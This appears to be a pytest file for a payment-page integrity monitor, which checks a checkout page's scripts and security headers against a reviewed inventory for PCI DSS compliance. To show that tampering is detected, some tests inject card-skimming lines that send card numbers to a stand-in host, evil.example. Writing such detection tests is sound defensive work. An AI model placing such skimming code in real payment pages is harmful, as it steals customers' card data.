"""check_payment_page against a live page served by real gunicorn (PCI DSS 6.4.3, 11.6.1)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError

from checkout.sessions.assets import PAGE_MODULE, PAGE_MODULE_IMPORTS
from checkout.sessions.services import checkout_session_create
from monitoring.pagecheck import (
    header_matches,
    inventory_load,
    logical_name,
    module_imports,
    normalise_header,
    page_scripts,
    sri_hash,
)
from tests.factories import MerchantFactory
from tests.support.servers import ROOT, gunicorn, server_env

SCRIPT = b"document.querySelector('form').addEventListener('submit', encrypt);"


def _check(url: str, inventory: Path, cafile: Path) -> str:
    out = StringIO()
    call_command(
        "check_payment_page", url, inventory=str(inventory), cafile=str(cafile), stdout=out
    )
    return out.getvalue()


def _failures(url: str, inventory: Path, cafile: Path) -> str:
    out = StringIO()
    with pytest.raises(CommandError, match="finding"):
        call_command(
            "check_payment_page", url, inventory=str(inventory), cafile=str(cafile), stdout=out
        )
    return out.getvalue()


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_live_page_is_checked_against_its_inventory(
    tls_cert: tuple[Path, Path], tmp_path: Path
) -> None:
    (tmp_path / "app.js").write_bytes(SCRIPT)
    (tmp_path / "integrity.txt").write_text(sri_hash(SCRIPT))
    env = {
        "ROOT_URLCONF": "tests.monitoring.page_urls",
        "TEST_PAYMENT_PAGE_DIR": str(tmp_path),
    }
    inventory = tmp_path / "inventory.json"
    cafile = tls_cert[0]

    with gunicorn(cert=tls_cert, workers=1, env=env) as server:
        page = f"{server.url}/pay/"
        # given an inventory recorded from the page as deployed
        call_command(
            "check_payment_page", page, record=str(inventory), cafile=str(cafile), stdout=StringIO()
        )
        recorded = json.loads(inventory.read_text())
        # (a person reviews it and writes why the page needs each script)
        for entry in recorded["scripts"]:
            entry["justification"] = "encrypts the card in the browser"
        inventory.write_text(json.dumps(recorded))

        # then the unchanged page passes
        ok = _check(page, inventory, cafile)

        # and every kind of change is caught
        unlisted = _failures(f"{page}?variant=extra", inventory, cafile)
        bad_attr = _failures(f"{page}?variant=bad-integrity", inventory, cafile)
        inline = _failures(f"{page}?variant=inline", inventory, cafile)
        header = _failures(f"{server.url}/pay/frameable/", inventory, cafile)
        (tmp_path / "app.js").write_bytes(SCRIPT + b"fetch('https://evil.example/'+card);")
        tampered = _failures(page, inventory, cafile)

    assert recorded["scripts"] == [
        {
            "src": "/pay/app.js",
            "load": "script",
            "integrity": sri_hash(SCRIPT),
            "justification": "encrypts the card in the browser",
        }
    ]
    assert "'nonce-*'" in recorded["headers"]["Content-Security-Policy"]
    assert recorded["headers"]["X-Frame-Options"] == "DENY"
    assert ok.startswith(f"ok: {page} loads 1 inventoried script(s)")
    assert f"FAIL: script not in the inventory: {server.url}/pay/extra.js" in unlisted
    assert "integrity attribute" in bad_attr
    assert "FAIL: inline script not in the inventory" in inline
    assert "FAIL: header X-Frame-Options is missing" in header
    assert f"FAIL: script {server.url}/pay/app.js: content changed" in tampered


def test_missing_inventory_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="No payment-page inventory"):
        call_command(
            "check_payment_page", "https://localhost:1/pay/", inventory=str(tmp_path / "none.json")
        )


def test_an_unreachable_page_is_a_clear_error(tmp_path: Path) -> None:
    inventory = tmp_path / "inv.json"
    inventory.write_text(json.dumps({"scripts": [], "headers": {}}))

    with pytest.raises(CommandError, match="Could not check"):
        call_command(
            "check_payment_page", "https://127.0.0.1:9/pay/", inventory=str(inventory), timeout=2
        )


def test_csp_comparison_ignores_nonces_and_directive_order() -> None:
    a = "default-src 'none'; script-src 'self' 'nonce-abc'"
    b = "script-src 'nonce-xyz'  'self';default-src 'none'"
    c = "default-src 'none'; script-src 'self' 'unsafe-inline'"

    assert normalise_header("Content-Security-Policy", a) == normalise_header(
        "Content-Security-Policy", b
    )
    assert normalise_header("Content-Security-Policy", a) != normalise_header(
        "Content-Security-Policy", c
    )


def test_script_parser_finds_external_and_inline_scripts() -> None:
    html = '<script src="/a.js" integrity="sha384-x"></script><SCRIPT>1+1</SCRIPT><p>no</p>'

    scripts = page_scripts(html)

    assert [(s.src, s.integrity, s.inline) for s in scripts] == [
        ("/a.js", "sha384-x", ""),
        (None, None, "1+1"),
    ]


def test_script_parser_tells_modules_preloads_and_data_blocks_apart() -> None:
    html = (
        '<link rel="modulepreload" href="/s/card.js" integrity="sha384-c">'
        '<link rel="stylesheet" href="/s/page.css" integrity="sha384-css">'
        '<link rel="preload" as="script" href="/s/old.js">'
        '<script type="module" src="/s/main.js" integrity="sha384-m"></script>'
        '<script type="application/json" id="config">{"a": 1}</script>'
        '<script type="text/javascript">run()</script>'
    )

    scripts = page_scripts(html)

    assert [(s.load, s.src, s.integrity) for s in scripts] == [
        ("modulepreload", "/s/card.js", "sha384-c"),
        ("modulepreload", "/s/old.js", None),
        ("module", "/s/main.js", "sha384-m"),
        ("data", None, None),
        ("script", None, None),
    ]


def test_module_imports_and_logical_names() -> None:
    source = (
        "import { a } from \"./card.js\";\nimport './side.js';\n"
        'export { b } from "../lib/b.js";\nconst c = await import("./lazy.js");\n'
        'import * as d from "/abs.js";\nimport e from "bare-package";\n'
    )

    assert module_imports(source) == [
        "./card.js", "./side.js", "../lib/b.js", "./lazy.js", "/abs.js", "bare-package"
    ]  # fmt: skip
    assert logical_name("/static/checkout/checkout.1a2b3c4d5e6f.js", static_url="/static/") == (
        "checkout/checkout.js"
    )
    assert logical_name("https://pay.example/static/checkout/card.js", static_url="/static/") == (
        "checkout/card.js"
    )
    assert logical_name("/pay/app.js", static_url="/static/") is None


def test_the_merchant_origin_placeholder_takes_exactly_one_origin() -> None:
    inventory = "default-src 'none'; form-action 'self' {merchant-origin}"

    assert header_matches(
        "Content-Security-Policy", "default-src 'none'; form-action 'self' https://shop.example",
        inventory,
    )  # fmt: skip
    for page in (
        "default-src 'none'; form-action 'self'",
        "default-src 'none'; form-action 'self' https://a.example https://b.example",
        "default-src 'none'; form-action 'self' *",
        "default-src 'none'; form-action 'self' https://shop.example; script-src *",
    ):
        assert not header_matches("Content-Security-Policy", page, inventory), page


def test_an_inventory_entry_without_a_justification_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "inventory.json"
    entry = {"name": "checkout/card.js", "load": "modulepreload", "integrity": sri_hash(b"x")}
    for justification in (None, "", "TODO"):
        path.write_text(json.dumps({"scripts": [{**entry, "justification": justification}]}))
        with pytest.raises(ValueError, match="justification"):
            inventory_load(path)


def test_the_committed_inventory_matches_the_checkout_scripts_on_disk() -> None:
    """CI fails when card.js, jwe.js or checkout.js change without a reviewed inventory."""
    inventory = inventory_load(Path(settings.PAYMENT_PAGE_INVENTORY))
    static = Path(settings.BASE_DIR) / "static"

    listed = {e["name"]: e for e in inventory["scripts"]}

    assert set(listed) == {PAGE_MODULE, *PAGE_MODULE_IMPORTS}
    assert listed[PAGE_MODULE]["load"] == "module"
    for name in PAGE_MODULE_IMPORTS:
        assert listed[name]["load"] == "modulepreload"
    for name, entry in listed.items():
        assert entry["integrity"] == sri_hash((static / name).read_bytes()), name


def _collectstatic(static_root: Path) -> None:
    env = server_env(
        {
            "DJANGO_SETTINGS_MODULE": "tests.monitoring.deployed_settings",
            "TEST_STATIC_ROOT": str(static_root),
        }
    )
    subprocess.run(
        [sys.executable, "manage.py", "collectstatic", "--noinput", "-v", "0"],
        cwd=ROOT,
        env=env,
        check=True,
    )


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_live_checkout_page_passes_its_inventory_and_fails_on_any_change(
    tls_cert: tuple[Path, Path], tmp_path: Path
) -> None:
    # given the hosted page served as deployed: content-hashed static names, HSTS on
    static_root = tmp_path / "static"
    _collectstatic(static_root)
    session = checkout_session_create(
        merchant=MerchantFactory.create(name="Inventory Shop"),
        mode="payment",
        amount=1000,
        currency="EUR",
        success_url="https://shop.example/thanks",
        cancel_url="https://shop.example/cart",
    )
    committed = Path(settings.PAYMENT_PAGE_INVENTORY)
    recorded = tmp_path / "recorded.json"
    shutil.copy(committed, recorded)  # --record keeps the justifications already written
    cafile = tls_cert[0]
    env = {
        "DJANGO_SETTINGS_MODULE": "tests.monitoring.deployed_settings",
        "TEST_STATIC_ROOT": str(static_root),
    }
    module = next(static_root.glob("checkout/checkout.*.js"))
    card = static_root / "checkout" / "card.js"
    original_module, original_card = module.read_bytes(), card.read_bytes()

    with gunicorn(cert=tls_cert, workers=1, env=env) as server:
        page = f"{server.url}/checkout/{session.pk}/"
        html = server.get(f"/checkout/{session.pk}/")[2].decode()
        # when the committed inventory is checked against the live page, as it is
        ok = _check(page, committed, cafile)
        # and re-recorded from it
        call_command("check_payment_page", page, record=str(recorded), cafile=str(cafile),
                     stdout=StringIO())  # fmt: skip
        # and a preloaded module is changed on the server
        card.write_bytes(original_card + b"\nfetch('https://evil.example/?c=' + number);")
        card_changed = _failures(page, committed, cafile)
        card.write_bytes(original_card)
        # and the entry module gains an import the page does not preload
        module.write_bytes(b'import "./skim.js";\n' + original_module)
        (module.parent / "skim.js").write_bytes(b"steal();")
        import_added = _failures(page, committed, cafile)
        module.write_bytes(original_module)
        restored = _check(page, committed, cafile)

    env["TEST_X_FRAME_OPTIONS"] = "SAMEORIGIN"
    with gunicorn(cert=tls_cert, workers=1, env=env) as server:
        header_changed = _failures(f"{server.url}/checkout/{session.pk}/", committed, cafile)

    # then the page as deployed passes, and recording it again changes nothing
    assert ok.startswith(f"ok: {page} loads 3 inventoried script(s)"), ok
    assert re.search(
        r'<script type="module" src="/static/checkout/checkout\.[0-9a-f]{12}\.js"', html
    )
    assert json.loads(recorded.read_text()) == json.loads(committed.read_text())
    # and each change fails the check, naming what changed
    assert "FAIL: script checkout/card.js: integrity attribute" in card_changed
    assert "FAIL: script checkout/card.js: content changed" in card_changed
    assert "FAIL: script checkout/checkout.js: content changed" in import_added
    assert "skim.js, which the page does not preload with a checked integrity" in import_added
    assert restored.startswith("ok: ")
    assert "FAIL: header X-Frame-Options changed: 'SAMEORIGIN'" in header_changed
